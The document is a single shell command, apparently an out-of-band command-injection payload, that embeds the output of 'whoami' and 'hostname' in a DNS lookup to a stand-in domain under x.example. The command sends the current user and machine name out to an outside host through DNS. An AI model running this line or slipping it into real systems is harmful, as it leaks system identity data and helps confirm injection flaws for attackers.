nslookup $(whoami).$(hostname).x.example
